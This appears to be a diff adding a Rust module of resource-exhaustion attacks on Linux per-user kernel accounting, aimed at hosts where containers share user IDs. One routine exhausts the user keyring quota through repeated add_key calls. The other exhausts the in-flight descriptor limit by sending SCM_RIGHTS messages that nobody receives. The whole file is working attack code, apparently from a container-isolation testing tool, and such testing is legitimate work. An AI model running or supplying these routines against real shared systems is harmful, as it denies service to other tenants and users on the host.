@@ -1,0 +1,65 @@
+//! Attacks on what the kernel counts for each user, and so for root of all containers with the host's users together with us.
+
+use std::io;
+use std::os::fd::{AsRawFd, RawFd};
+use std::time::Duration;
+
+use nix::sys::resource::{Resource, getrlimit, setrlimit};
+use nix::sys::socket::{AddressFamily, ControlMessage, MsgFlags, SockFlag, SockType, sendmsg, socketpair};
+
+fn add_key(name: &str, payload: &[u8]) -> io::Result<()> {
+    const PROCESS_KEYRING: libc::c_long = -2;
+    let name = std::ffi::CString::new(name).unwrap();
+    // SAFETY: both texts end with NUL, and they and the payload live through the call.
+    let added = unsafe {
+        let (data, length) = (payload.as_ptr(), payload.len());
+        libc::syscall(libc::SYS_add_key, c"user".as_ptr(), name.as_ptr(), data, length, PROCESS_KEYRING)
+    };
+    if added < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
+}
+
+/// Takes all bytes of keys that its user may have, and again when some are given back.
+pub fn fill_keys() {
+    let payload = vec![0u8; 32 << 10];
+    let mut last = 0;
+    let mut size = payload.len() - 1;
+    let mut full = false;
+    loop {
+        match add_key(&format!("k{last}"), &payload[..size]) {
+            Ok(()) => last += 1,
+            Err(_) if size > 1 => size /= 2,
+            Err(_) => {
+                // Changed for a larger one, a key takes the last bytes.
+                let grows = (2..64).take_while(|more| add_key(&format!("k{}", last - 1), &payload[..*more]).is_ok());
+                let grown = grows.count();
+                if !full {
+                    println!("full after {last} keys");
+                }
+                full = true;
+                if grown == 0 {
+                    std::thread::park_timeout(Duration::from_millis(1));
+                }
+                last += 1;
+            }
+        }
+    }
+}
+
+/// Sends descriptors that nobody receives until the kernel takes no more.
+pub fn descriptors_in_flight() {
+    const AT_ONCE: usize = 250;
+    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE).unwrap();
+    setrlimit(Resource::RLIMIT_NOFILE, most, most).unwrap();
+    let mut sockets = Vec::new();
+    loop {
+        let pair = socketpair(AddressFamily::Unix, SockType::Datagram, None, SockFlag::SOCK_CLOEXEC).unwrap();
+        let descriptors: Vec<RawFd> = vec![pair.0.as_raw_fd(); AT_ONCE];
+        let rights = [ControlMessage::ScmRights(&descriptors)];
+        let sent = sendmsg::<()>(pair.0.as_raw_fd(), &[io::IoSlice::new(b"x")], &rights, MsgFlags::empty(), None);
+        if let Err(error) = sent {
+            println!("full after {} descriptors: {error}", sockets.len() * AT_ONCE);
+            super::attacks::park()
+        }
+        sockets.push(pair);
+    }
+}
